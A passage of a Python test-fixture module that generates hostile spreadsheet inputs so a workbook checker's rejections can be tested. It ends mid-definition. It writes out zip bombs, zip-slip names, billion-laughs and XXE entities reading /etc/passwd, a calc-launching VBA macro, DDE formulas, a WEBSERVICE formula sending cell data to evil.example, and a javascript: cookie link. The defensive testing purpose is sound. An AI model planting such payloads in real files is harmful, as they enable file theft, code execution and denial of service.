"""A corpus of hostile inputs for ``clusterbook check`` and ``clusterbook import``.

Every case is one small function returning the bytes of the file an applicant (or an attacker)
could send; :data:`CASES` lists them with the exit code the CLI documents for that input
(0 clean, 1 error findings, 2 unusable) and the rule ids the JSON findings must contain.
Workbooks are derived from a clean sample proposal, either through openpyxl or by editing the
package's XML directly (openpyxl writes inline strings: ``<c r="B7" t="inlineStr"><is><t>…``).
Each readable case gets its own cluster name so that, in a register, it is its own proposal.
"""

from __future__ import annotations

import copy
import functools
import io
import re
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from xml.sax.saxutils import escape as _xml_escape

import openpyxl

from clusterbook.samples import SCENARIOS, build, random_proposal
from clusterbook.workbook import a1
from clusterbook.workbook.fill import FormData, filled_bytes
from clusterbook.workbook.layout import build_layout
from clusterbook.workbook.spec import load_program

MB = 2**20
BASE_KEY = "tainan-alley"  # a clean sample: exit 0 with one info finding
RISKY = ("=1+1", "+886-2-1234", "-2+3", "@SUM(A1:A9)", "\tcmd", "=cmd|' /C calc'!A0")
HYPERLINK = '=HYPERLINK("http://evil.example","點我")'


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[str], bytes]
    exit: int
    """The documented exit code of ``check`` and ``import`` for this file alone."""
    rules: tuple[str, ...] = ()
    """Rule ids the JSON findings for this file must include."""
    words: tuple[str, ...] = ()
    """Words the message of the first listed rule must contain (zh-TW, naming the problem)."""
    suffix: str = ".xlsx"
    kind: str = "file"
    """What is at the path: "file" (the bytes built), "missing" (nothing) or "directory"."""

    @property
    def filename(self) -> str:
        return self.name + self.suffix


# ---------------------------------------------------------------------------------------------
# building blocks


@functools.cache
def _layout():
    return build_layout("dc112")


def part_of(title: str) -> str:
    """The zip part of a sheet in a workbook written by clusterbook (sheets in layout order)."""
    titles = [s.title for s in _layout().sheets]
    return f"xl/worksheets/sheet{titles.index(title) + 1}.xml"


def clean_data(key: str = BASE_KEY) -> FormData:
    scenario = next(s for s in SCENARIOS if s.key == key)
    return copy.deepcopy(build(load_program("dc112"), scenario))


def tagged(data: FormData, tag: str) -> FormData:
    """One cluster name per case: each readable case is its own proposal in the register."""
    data.fields["proposal.cluster_name"] = f"{data.fields['proposal.cluster_name']}（{tag}）"
    return data


@functools.cache
def _base_bytes() -> bytes:
    return filled_bytes(clean_data())


def base(tag: str) -> bytes:
    """The clean sample workbook, with the case's tag in its cluster name."""
    ref = _layout().fields["proposal.cluster_name"]
    name = clean_data().fields["proposal.cluster_name"]
    cell = istr(a1.cell(ref.first_row, ref.first_col), f"{name}（{tag}）")
    return edit_sheets(_base_bytes(), {ref.sheet: {cell[0]: cell[1]}})


def from_data(tag: str, change: Callable[[FormData], None], key: str = BASE_KEY) -> bytes:
    data = tagged(clean_data(key), tag)
    change(data)
    return filled_bytes(data)


def rezip(
    data: bytes,
    edit: Callable[[str, bytes], bytes | None] = lambda _n, b: b,
    extra: dict[str, bytes] | None = None,
) -> bytes:
    """Rewrite a package: ``edit(name, body)`` returns the new body, or None to drop the part."""
    src = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            body = edit(info.filename, src.read(info.filename))
            if body is not None:
                dst.writestr(info.filename, body)
        for name, body in (extra or {}).items():
            dst.writestr(name, body, compresslevel=9)
    return out.getvalue()


def with_openpyxl(tag: str, change: Callable[[openpyxl.Workbook], None]) -> bytes:
    wb = openpyxl.load_workbook(io.BytesIO(base(tag)))
    change(wb)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def ooxml_text(text: str) -> str:
    """XML-escape, and write control characters the OOXML way (``_x0001_``)."""
    text = text.replace("_x", "_x005F_x")
    text = re.sub(
        r"[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]", lambda m: f"_x{ord(m[0]):04X}_", text
    )
    return _xml_escape(text)


def istr(ref: str, text: str) -> tuple[str, str]:
    body = f'<is><t xml:space="preserve">{ooxml_text(text)}</t></is>'
    return ref, f'<c r="{ref}" t="inlineStr">{body}</c>'


def num(ref: str, raw: str) -> tuple[str, str]:
    return ref, f'<c r="{ref}"><v>{raw}</v></c>'


def formula(ref: str, text: str, cached: str = "", kind: str = "str") -> tuple[str, str]:
    return ref, f'<c r="{ref}" t="{kind}"><f>{_xml_escape(text)}</f><v>{cached}</v></c>'


def set_cells(xml: str, cells: dict[str, str]) -> str:
    """Replace (or add) cells in a worksheet's XML; ``cells`` maps A1 refs to raw ``<c>`` XML."""
    for ref, cell in cells.items():
        own = re.compile(rf'<c r="{ref}"[^>]*/>|<c r="{ref}"[^>]*[^/]>.*?</c>', re.S)
        if own.search(xml):
            xml = own.sub(lambda _m, c=cell: c, xml, count=1)
            continue
        row = a1.parse_cell(ref)[0]
        m = re.search(rf'<row r="{row}"[^>]*?(/?)>', xml)
        if m and not m.group(1):
            end = xml.index("</row>", m.end())
            xml = xml[:end] + cell + xml[end:]
            continue
        new = f'<row r="{row}">{cell}</row>'
        if m:  # an empty <row/>
            xml = xml[: m.start()] + new + xml[m.end() :]
            continue
        later = next(
            (x for x in re.finditer(r'<row r="(\d+)"', xml) if int(x.group(1)) > row), None
        )
        at = later.start() if later else xml.index("</sheetData>")
        xml = xml[:at] + new + xml[at:]
    return xml


def edit_sheets(data: bytes, by_title: dict[str, dict[str, str]]) -> bytes:
    parts = {part_of(title): cells for title, cells in by_title.items()}

    def edit(name: str, body: bytes) -> bytes:
        if name not in parts:
            return body
        return set_cells(body.decode(), parts[name]).encode()

    return rezip(data, edit)


def edit_part(data: bytes, part: str, change: Callable[[str], str]) -> bytes:
    return rezip(data, lambda n, b: change(b.decode()).encode() if n == part else b)


def field_cell(fid: str, index: int = 0) -> str:
    ref = _layout().fields[fid]
    return a1.cell(*ref.cell_at(index))


def ole_file(stream_names: tuple[str, ...]) -> bytes:
    """A minimal OLE2 compound file header and a directory sector naming the streams."""
    header = bytearray(512)
    header[:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    header[24:26] = struct.pack("<H", 0x3E)  # minor version
    header[26:28] = struct.pack("<H", 3)  # major version 3: 512-byte sectors
    header[28:30] = b"\xfe\xff"  # little endian
    header[30:32] = struct.pack("<H", 9)
    header[32:34] = struct.pack("<H", 6)
    header[48:52] = struct.pack("<I", 1)  # first directory sector
    directory = bytearray()
    for i, name in enumerate(("Root Entry", *stream_names)):
        entry = bytearray(128)
        encoded = name.encode("utf-16-le") + b"\x00\x00"
        entry[: len(encoded)] = encoded
        entry[64:66] = struct.pack("<H", len(encoded))
        entry[66] = 5 if i == 0 else 2  # root storage / stream
        directory += entry
    directory += bytes(-len(directory) % 512)
    return bytes(header) + bytes(512) + bytes(directory)


# ---------------------------------------------------------------------------------------------
# files that are not workbooks at all


def empty(_tag: str) -> bytes:
    return b""


def not_a_zip(_tag: str) -> bytes:
    return bytes(range(256)) * 8


def truncated_zip(tag: str) -> bytes:
    data = base(tag)
    return data[: len(data) // 2]


def xls_biff(_tag: str) -> bytes:
    return ole_file(("Workbook", "\x05SummaryInformation"))


def encrypted_ole(_tag: str) -> bytes:
    """What Excel writes for a password-protected .xlsx: an OLE2 container, not a zip."""
    return ole_file(("EncryptionInfo", "EncryptedPackage", "\x06DataSpaces"))


def csv_renamed(_tag: str) -> bytes:
    return "群聚名稱,統一編號,負責人\n府城巷弄生活圈,90453812,王小明\n".encode()


def html_renamed(_tag: str) -> bytes:
    return b"<!DOCTYPE html><html><body><table><tr><td>1</td></tr></table></body></html>"


def too_large_file(_tag: str) -> bytes:
    """26 MB: over the 25 MB file limit, refused before it is read."""
    return b"PK\x03\x04" + bytes(26 * MB)


def zip_without_workbook(_tag: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("readme.txt", "not a workbook")
    return out.getvalue()


def plain_openpyxl(_tag: str) -> bytes:
    wb = openpyxl.Workbook()
    wb.active["A1"] = "群聚名稱"
    wb.active["B1"] = "府城巷弄生活圈"
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


# ---------------------------------------------------------------------------------------------
# the package: zip bombs, broken or lying zip structures


def _bomb_entry(size: int) -> bytes:
    return b"<worksheet>" + b" " * size + b"</worksheet>"


def zip_bomb_declared(tag: str) -> bytes:
    """One entry that really inflates to 48 MB (over the 40 MB part limit) from ~50 KB."""
    return rezip(base(tag), extra={"xl/media/padding.xml": _bomb_entry(48 * MB)})


def zip_bomb_declared_gigabytes(tag: str) -> bytes:
    """A small sheet whose headers declare 4 GB."""
    return patch_entry(base(tag), part_of("群聚成員"), SIZE, lambda _old: 0xFFFF_FFF0)


def zip_bomb_ratio(tag: str) -> bytes:
    """Under the part limit, but compressed 1000:1 (ordinary sheets stay below 50:1)."""
    return rezip(base(tag), extra={"xl/media/padding.xml": _bomb_entry(30 * MB)})


def zip_bomb_lying_header(tag: str) -> bytes:
    """A sheet whose headers declare 4 KB but whose data inflates to 48 MB."""
    target = part_of("群聚成員")
    data = rezip(base(tag), lambda n, b: _bomb_entry(48 * MB) if n == target else b)
    return patch_entry(data, target, SIZE, lambda _old: 4096)


def zip_entry_encrypted(tag: str) -> bytes:
    """The workbook part flagged as zip-encrypted (a password would be asked)."""
    return patch_entry(base(tag), "xl/workbook.xml", FLAGS, lambda old: old | 1)


def zip_unknown_compression(tag: str) -> bytes:
    """A sheet compressed with a method no reader supports (99: AES)."""
    return patch_entry(base(tag), part_of("群聚成員"), METHOD, lambda _old: 99)


# (struct format, offset in the local file header, offset in the central directory record)
FLAGS, METHOD, SIZE = ("<H", 6, 8), ("<H", 8, 10), ("<I", 22, 24)


def patch_entry(data: bytes, name: str, field: tuple, change: Callable[[int], int]) -> bytes:
    """Rewrite one field of an entry, in its local header and in the central directory."""
    fmt, local_at, central_at = field
    buf = bytearray(data)
    for sig, at, name_len_at, name_at in (
        (b"PK\x03\x04", local_at, 26, 30),
        (b"PK\x01\x02", central_at, 28, 46),
    ):
        start = 0
        while (i := buf.find(sig, start)) >= 0:
            start = i + 4
            (n,) = struct.unpack_from("<H", buf, i + name_len_at)
            if bytes(buf[i + name_at : i + name_at + n]) == name.encode():
                (old,) = struct.unpack_from(fmt, buf, i + at)
                struct.pack_into(fmt, buf, i + at, change(old))
    return bytes(buf)


def zip_duplicate_entries(tag: str) -> bytes:
    """Two parts with the same name: Excel and the checker could each read a different one."""
    import warnings

    good = base(tag)
    target = part_of("群聚成員")
    src = zipfile.ZipFile(io.BytesIO(good))
    sheet = src.read(target).decode()
    forged = set_cells(sheet, dict([istr(field_cell("members.name"), "別的企業")]))
    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns about the duplicate name
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
            for info in src.infolist():
                dst.writestr(info.filename, src.read(info.filename))
            dst.writestr(target, forged)
    return out.getvalue()


def part_names_in_other_case(tag: str) -> bytes:
    """Entry names in upper case: part names are case-insensitive, Excel reads this file."""
    target = part_of("群聚成員")
    src = zipfile.ZipFile(io.BytesIO(base(tag)))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            name = info.filename.upper() if info.filename == target else info.filename
            dst.writestr(name, src.read(info.filename))
    return out.getvalue()


def zip_slip_names(tag: str) -> bytes:
    """Entries named outside any folder they could be extracted to: nothing is extracted."""
    return rezip(base(tag), extra={"../../evil.txt": b"x", "/etc/cron.d/evil": b"x"})


# ---------------------------------------------------------------------------------------------
# XML attacks


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
        for i in range(1, 10)
    )
    + "]>\n"
)
XXE = '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'


def billion_laughs_sheet(tag: str) -> bytes:
    def change(xml: str) -> str:
        xml = set_cells(xml, dict([istr(field_cell("members.name"), "@@LOL@@")]))
        return BILLION_LAUGHS + xml.replace("@@LOL@@", "&lol9;")

    return edit_part(base(tag), part_of("群聚成員"), change)


def xxe_shared_strings(tag: str) -> bytes:
    """A sharedStrings part declaring an external entity, used by the cluster name cell."""
    sst = (
        XXE + '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
        'uniqueCount="1"><si><t>&xxe;</t></si></sst>'
    )
    ref = field_cell("proposal.cluster_name")
    data = edit_sheets(base(tag), {"提案單位": {ref: f'<c r="{ref}" t="s"><v>0</v></c>'}})
    data = edit_part(
        data,
        "[Content_Types].xml",
        lambda x: x.replace(
            "</Types>",
            '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.'
            'openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>',
        ),
    )
    return rezip(data, extra={"xl/sharedStrings.xml": sst.encode()})


def xxe_workbook(tag: str) -> bytes:
    def change(xml: str) -> str:
        return XXE + xml.replace('name="填寫說明"', 'name="&xxe;"')

    return edit_part(base(tag), "xl/workbook.xml", change)


def dtd_after_long_prolog(tag: str) -> bytes:
    """The DOCTYPE after 8 KB of comments: legal XML, past a scan of the first 4 KB only."""
    prolog = '<?xml version="1.0"?>\n' + "<!-- " + "padding " * 1024 + "-->\n"

    def change(xml: str) -> str:
        xml = set_cells(xml, dict([istr(field_cell("members.name"), "@@LOL@@")]))
        return prolog + BILLION_LAUGHS.split("\n", 1)[1] + xml.replace("@@LOL@@", "&lol9;")

    return edit_part(base(tag), part_of("群聚成員"), change)


def dtd_in_utf16(tag: str) -> bytes:
    """A sheet saved as UTF-16 (legal XML): its DOCTYPE is not the bytes ``<!DOCTYPE``."""

    def change(name: str, body: bytes) -> bytes:
        if name != part_of("群聚成員"):
            return body
        xml = body.decode().replace('<?xml version="1.0"?>', "")
        return (BILLION_LAUGHS.replace("1.0", '1.0" encoding="UTF-16') + xml).encode("utf-16")

    return rezip(base(tag), change)


def dtd_in_content_types(tag: str) -> bytes:
    """Entities in a part the checker does not otherwise read (but Excel and openpyxl do)."""
    return edit_part(base(tag), "[Content_Types].xml", lambda x: BILLION_LAUGHS + x)


def regex_bomb_unclosed_tags(tag: str) -> bytes:
    """200,000 cells and shared strings that never close: a backtracking parser goes quadratic."""

    def change(xml: str) -> str:
        junk = '<c r="ZZ9" t="s">' * 100_000 + "<v>" * 50_000 + "<c " * 50_000
        return xml.replace("</sheetData>", junk + "</sheetData>")

    return edit_part(base(tag), part_of("群聚成員"), change)


def regex_bomb_unclosed_markup(tag: str) -> bytes:
    """Markup the reader unwraps or skips, 100,000 times each and never closed: reading hints
    (``<rPh>``) in a string, cells without r (read in order), CDATA sections and comments."""

    def change(xml: str) -> str:
        hints = '<c r="ZZ4000" t="inlineStr"><is><t>讀</t>' + '<rPh sb="0">' * 100_000 + "</is></c>"
        ordered = "<c><v>1</v></c>" + "<c><v>" * 100_000
        markup = "<!-- -->" * 100_000 + "<![CDATA[" * 100_000 + "<!--" * 100_000
        rows = f'<row r="4000">{hints}{ordered}</row>'
        return xml.replace("</sheetData>", rows + "</sheetData>" + markup)

    return edit_part(base(tag), part_of("群聚成員"), change)


def regex_bomb_long_attributes(tag: str) -> bytes:
    """A 1 MB attribute name in workbook.xml and a 1 MB cell reference in a sheet."""

    import random
    import string

    rng = random.Random(0)
    word = "".join(rng.choices(string.ascii_letters, k=MB))
    letters = "".join(rng.choices(string.ascii_uppercase, k=MB))

    def workbook(xml: str) -> str:
        return xml.replace('<sheet name="填寫說明"', f'<sheet {word} name="填寫說明"')

    def sheet(xml: str) -> str:
        junk = f'<c r="{letters}{"9" * 5000}"><v>1</v></c><c r="B{"9" * 5000}" t="s"><v>1</v></c>'
        junk += f'<c r="B60" t="s"><v>{"9" * 5000}</v></c>'
        return xml.replace("</sheetData>", f'<row r="60">{junk}</row></sheetData>')

    data = edit_part(base(tag), "xl/workbook.xml", workbook)
    return edit_part(data, part_of("群聚成員"), sheet)


# ---------------------------------------------------------------------------------------------
# active content


def _content_type(data: bytes, part: str, kind: str) -> bytes:
    return edit_part(
        data,
        "[Content_Types].xml",
        lambda x: x.replace(
            "</Types>", f'<Override PartName="/{part}" ContentType="{kind}"/></Types>'
        ),
    )


def xlsm_macro(tag: str) -> bytes:
    """A macro-enabled workbook whose VBA project would run calc.exe when opened."""
    xlsx = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    xlsm = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    vba_type = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    data = edit_part(
        base(tag),
        "[Content_Types].xml",
        lambda x: x.replace(xlsx, xlsm).replace("</Types>", vba_type + "</Types>"),
    )
    data = edit_part(
        data,
        "xl/_rels/workbook.xml.rels",
        lambda x: x.replace(
            "</Relationships>",
            '<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/'
            'relationships/vbaProject" Target="vbaProject.bin"/></Relationships>',
        ),
    )
    vba = ole_file(("VBA", "PROJECT", "dir")) + b'Sub Auto_Open()\r\n Shell "calc.exe"\r\nEnd Sub'
    return rezip(data, extra={"xl/vbaProject.bin": vba})


def external_link(tag: str) -> bytes:
    link = (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<externalBook r:id="rId1"><sheetNames><sheetName val="Sheet1"/></sheetNames>'
        "</externalBook></externalLink>"
    )
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/externalLinkPath" Target="file:///\\\\evil.example\\share\\x.xlsx" '
        'TargetMode="External"/></Relationships>'
    )
    data = edit_part(
        base(tag),
        "xl/_rels/workbook.xml.rels",
        lambda x: x.replace(
            "</Relationships>",
            '<Relationship Id="rIdExt" Type="http://schemas.openxmlformats.org/officeDocument/'
            '2006/relationships/externalLink" Target="externalLinks/externalLink1.xml"/>'
            "</Relationships>",
        ),
    )
    data = edit_part(
        data,
        "xl/workbook.xml",
        lambda x: x.replace(
            "<definedNames>",
            '<externalReferences><externalReference r:id="rIdExt"/></externalReferences>'
            "<definedNames>",
        ),
    )
    data = _content_type(
        data,
        "xl/externalLinks/externalLink1.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
    )
    return rezip(
        data,
        extra={
            "xl/externalLinks/externalLink1.xml": link.encode(),
            "xl/externalLinks/_rels/externalLink1.xml.rels": rels.encode(),
        },
    )


def javascript_hyperlink(tag: str) -> bytes:
    """A cell hyperlink to ``javascript:``, its scheme hidden behind a character reference."""
    sheet = part_of("群聚成員")
    rels_name = sheet.replace("worksheets/", "worksheets/_rels/") + ".rels"
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rIdJs" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/hyperlink" Target="&#106;ava&#x09;script:alert(document.cookie)" '
        'TargetMode="External"/></Relationships>'
    )

    def change(xml: str) -> str:
        if 'xmlns:r="' not in xml[:500]:
            xml = xml.replace(
                "<worksheet ",
                '<worksheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/'
                'relationships" ',
                1,
            )
        link = (
            f'<hyperlinks><hyperlink ref="{field_cell("members.name")}" r:id="rIdJs"/></hyperlinks>'
        )
        at = xml.index("<pageMargins") if "<pageMargins" in xml else xml.index("</worksheet>")
        return xml[:at] + link + xml[at:]

    return rezip(edit_part(base(tag), sheet, change), extra={rels_name: rels.encode()})


def formula_like_text(tag: str) -> bytes:
    """Text starting with = + - @ and a tab in text, number and enum input cells."""

    def change(data: FormData) -> None:
        members = data.tables["members"]
        for m, text in zip(members, RISKY, strict=False):
            m["members.products"] = text
        members[0]["members.employees"] = "=1+1"
        members[1]["members.role"] = "@SUM(A1:A9)"
        members[2]["members.name"] = HYPERLINK
        data.fields["unit.intro"] = "=cmd|' /C calc'!A0"

    return from_data(tag, change)


def console_markup(tag: str) -> bytes:
    """Text that a terminal renderer could take for markup (rich): a stray closing tag, a link."""

    def change(data: FormData) -> None:
        data.tables["members"][0]["members.role"] = "[/x]"
        data.tables["members"][1]["members.role"] = "[link=http://evil.example]點我[/link]"

    return from_data(tag, change)


def formula_in_input_cell(tag: str) -> bytes:
    """Real formulas (DDE, WEBSERVICE, HYPERLINK) typed into input cells, with cached values."""
    cells = [
        formula(field_cell("members.products"), "cmd|' /C calc'!A0", "0", "str"),
        formula(field_cell("members.improve"), 'WEBSERVICE("http://evil.example/?"&B6)', "", "str"),
        formula(field_cell("members.employees", 1), "1+1", "2", "n"),
    ]
    return edit_sheets(base(tag), {"群聚成員": dict(cells)})


# ---------------------------------------------------------------------------------------------
# the template's structure


def _meta_edit(tag: str, key_cell: str, value: str) -> bytes:
    return edit_sheets(base(tag), {"_meta": dict([istr(key_cell, value)])})


def other_spec_version(tag: str) -> bytes:
    data = _meta_edit(tag, "B4", "2022.9")
    return edit_sheets(data, {"_meta": dict([istr("B5", "0" * 64)])})


def stale_field_map(tag: str) -> bytes:
    """The field map's range for members.name moved by a row (as if rows had been inserted)."""
    src = zipfile.ZipFile(io.BytesIO(base(tag))).read(part_of("_meta")).decode()
    m = re.search(r'<c r="A(\d+)"[^>]*><is><t>members\.name</t>', src)
    assert m, "members.name is in the field map"
    return _meta_edit(tag, f"D{m.group(1)}", "B7:B56")


def renamed_sheet(tag: str) -> bytes:
    return edit_part(
        base(tag), "xl/workbook.xml", lambda x: x.replace('name="群聚成員"', 'name="成員名單"')
    )


def deleted_sheet(tag: str) -> bytes:
    return with_openpyxl(tag, lambda wb: wb.remove(wb["經費需求"]))


def reordered_sheets(tag: str) -> bytes:
    def change(wb: openpyxl.Workbook) -> None:
        wb.move_sheet("經費需求", offset=-8)
        wb.move_sheet("_meta", offset=-13)

    return with_openpyxl(tag, change)


def deleted_meta(tag: str) -> bytes:
    return with_openpyxl(tag, lambda wb: wb.remove(wb["_meta"]))


def merged_cells_in_table(tag: str) -> bytes:
    def change(wb: openpyxl.Workbook) -> None:
        ref = _layout().fields["members.name"]
        ws = wb[ref.sheet]
        ws.merge_cells(
            start_row=ref.first_row + 1,
            start_column=ref.first_col,
            end_row=ref.first_row + 2,
            end_column=ref.first_col + 1,
        )

    return with_openpyxl(tag, change)


def many_merged_ranges(tag: str) -> bytes:
    """20,000 distinct merged ranges over the members table (one finding each, unbounded)."""
    ref = _layout().fields["members.name"]
    col = a1.col_letter(ref.first_col)
    merges = "".join(
        f'<mergeCell ref="{col}{ref.first_row}:{col}{ref.last_row + 1 + k}"/>'
        for k in range(20_000)
    )

    def change(xml: str) -> str:
        xml = re.sub(r"<mergeCells[^>]*>", "<mergeCells>" + merges, xml, count=1)
        return xml

    return edit_part(base(tag), part_of(ref.sheet), change)


# ---------------------------------------------------------------------------------------------
# size


def _rows_xml(first: int, last: int, col: str) -> str:
    return "".join(
        f'<row r="{r}"><c r="{col}{r}"><v>{r}</v></c></row>' for r in range(first, last + 1)
    )


def million_rows(tag: str) -> bytes:
    """1,000,000 rows in the members sheet below the table (about 36 MB of XML)."""

    def change(xml: str) -> str:
        return xml.replace("</sheetData>", _rows_xml(56, 1_000_000, "M") + "</sheetData>")

    return edit_part(base(tag), part_of("群聚成員"), change)


def million_empty_rows(tag: str) -> bytes:
    """1,000,000 formatted but empty rows (about 24 MB of XML), and one value in row 1,000,000."""

    def change(xml: str) -> str:
        rows = "".join(f'<row r="{r}" ht="30"/>' for r in range(56, 1_000_000))
        rows += '<row r="1000000"><c r="B1000000" t="inlineStr"><is><t>遠方</t></is></c></row>'
        return xml.replace("</sheetData>", rows + "</sheetData>")

    return edit_part(base(tag), part_of("群聚成員"), change)


def lone_surrogate_escape(tag: str) -> bytes:
    """``_xD800_`` decodes to half a UTF-16 pair, which no UTF-8 output can hold."""
    cells = [istr(field_cell("members.products"), "X"), istr(field_cell("members.improve"), "Y")]
    data = edit_sheets(base(tag), {"群聚成員": dict(cells)})
    return edit_part(
        data,
        part_of("群聚成員"),
        lambda x: x.replace(">X</t>", ">茶_xD800_飲</t>").replace(">Y</t>", ">_xDFFF_</t>"),
    )


def cells_without_r_flood(tag: str) -> bytes:
    """300 rows of 100 empty cells and one value, none with r: every one is placed in order."""

    def change(xml: str) -> str:
        row = "<row>" + "<c/>" * 100 + "<c><v>1</v></c></row>"
        return xml.replace("</sheetData>", row * 300 + "</sheetData>")

    return edit_part(base(tag), part_of("群聚成員"), change)


def _in_utf16(xml: str) -> bytes:
    """XML as some mobile Excel builds save it: UTF-16 with a byte-order mark and a declaration."""
    xml = re.sub(r"^<\?xml[^>]*\?>\s*", "", xml)
    return ('<?xml version="1.0" encoding="UTF-16" standalone="yes"?>\r\n' + xml).encode("utf-16")


def utf16_parts(tag: str) -> bytes:
    """Every XML part of a clean workbook in UTF-16: read as the same workbook."""
    return rezip(
        base(tag), lambda n, b: _in_utf16(b.decode()) if n.endswith((".xml", ".rels")) else b
    )


def utf16_cell_flood(tag: str) -> bytes:
    """260,000 cells in a UTF-16 sheet: counted against the cell limit as in UTF-8."""
    cols = [a1.col_letter(c) for c in range(60, 260)]

    def change(name: str, body: bytes) -> bytes:
        if name != part_of("群聚成員"):
            return body
        rows = "".join(
            f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>{r}</v></c>' for c in cols) + "</row>"
            for r in range(56, 1_356)
        )
        return _in_utf16(body.decode().replace("</sheetData>", rows + "</sheetData>"))

    return rezip(base(tag), change)


def cdata_expansion(tag: str) -> bytes:
    """10 MB of ``&`` and ``<`` in a CDATA section: five times as long once written as text."""
    import random

    body = "".join(random.Random(0).choices("&<", k=10 * MB))
    cell = f'<c r="ZZ4000" t="inlineStr"><is><t><![CDATA[{body}]]></t></is></c>'
    return edit_part(
        base(tag),
        part_of("群聚成員"),
        lambda x: x.replace("</sheetData>", f'<row r="4000">{cell}</row></sheetData>'),
    )


def rows_in_extra_sheet(tag: str) -> bytes:
    """300,000 rows in a sheet the applicant added (the checks never read it, Excel does)."""
    sheet = (
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        + _rows_xml(1, 300_000, "A")
        + "</sheetData></worksheet>"
    )
    data = edit_part(
        base(tag),
        "xl/workbook.xml",
        lambda x: x.replace(
            "</sheets>", '<sheet name="附件" sheetId="99" r:id="rIdBig"/></sheets>'
        ),
    )
    data = edit_part(
        data,
        "xl/_rels/workbook.xml.rels",
        lambda x: x.replace(
            "</Relationships>",
            '<Relationship Id="rIdBig" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
            'relationships/worksheet" Target="/xl/worksheets/sheet99.xml"/></Relationships>',
        ),
    )
    data = _content_type(
        data,
        "xl/worksheets/sheet99.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
    )
    return rezip(data, extra={"xl/worksheets/sheet99.xml": sheet.encode()})


def cell_flood(tag: str) -> bytes:
    """5,000 rows × 200 columns of numbers (1,000,000 cells within the rows that are read)."""
    cols = [a1.col_letter(c) for c in range(60, 260)]

    def change(xml: str) -> str:
        rows = "".join(
            f'<row r="{r}">' + "".join(f'<c r="{c}{r}"><v>1</v></c>' for c in cols) + "</row>"
            for r in range(56, 5001)
        )
        return xml.replace("</sheetData>", rows + "</sheetData>")

    return edit_part(base(tag), part_of("群聚成員"), change)


def shared_formula_flood(tag: str) -> bytes:
    """100,000 cells sharing one formula: each would be translated from the master cell."""
    cols = [a1.col_letter(c) for c in range(60, 80)]

    def change(xml: str) -> str:
        first = f'<c r="{cols[0]}56"><f t="shared" ref="{cols[0]}56:{cols[-1]}5055" si="7">SUM($A$1:A1)*2+IF(B1&gt;0,1,2)</f></c>'
        rows = [first]
        rows += [f'<c r="{c}56"><f t="shared" si="7"/></c>' for c in cols[1:]]
        body = '<row r="56">' + "".join(rows) + "</row>"
        body += "".join(
            f'<row r="{r}">'
            + "".join(f'<c r="{c}{r}"><f t="shared" si="7"/></c>' for c in cols)
            + "</row>"
            for r in range(57, 5056)
        )
        return xml.replace("</sheetData>", body + "</sheetData>")

    return edit_part(base(tag), part_of("數位工具導入"), change)


# ---------------------------------------------------------------------------------------------
# cell contents


def long_text(tag: str) -> bytes:
    def change(data: FormData) -> None:
        data.fields["unit.intro"] = "長" * 10_000
        data.fields["narrative.motivation"] = ("群聚" * 5_000)[:10_000]
        data.tables["members"][0]["members.products"] = "產品" * 5_000
        data.tables["members"][1]["members.name"] = "名" * 10_000

    return from_data(tag, change)


CONTROL = "\x01\x07\x08\x0b\x0c\x1b\x1f\x7f"
EMOJI = "🍵😀👨‍👩‍👧‍👦🇹🇼\u202eevil\u202c\u200b\ufeff"


def control_chars_and_emoji(tag: str) -> bytes:
    cells = [
        istr(field_cell("members.products", 0), f"古早味{CONTROL}早餐"),
        istr(field_cell("members.products", 1), f"手搖飲{EMOJI}"),
        istr(field_cell("members.improve", 0), "\x00NUL"),
        istr(field_cell("unit.main_business"), f"餐飲\r\n{EMOJI}"),
    ]
    data = edit_sheets(base(tag), {"群聚成員": dict(cells[:3])})
    return edit_sheets(data, {"提案單位": dict(cells[3:])})


def wrong_types(tag: str) -> bytes:
    """Text in number, date, year and 統一編號 columns; numbers and booleans in text and enums."""
    wrong = {
        "members.name": 12345,
        "members.role": 1,
        "members.ubn": "統一編號",
        "members.phone": True,
        "members.approved_on": "下個月",
        "members.founded_year": "很久以前",
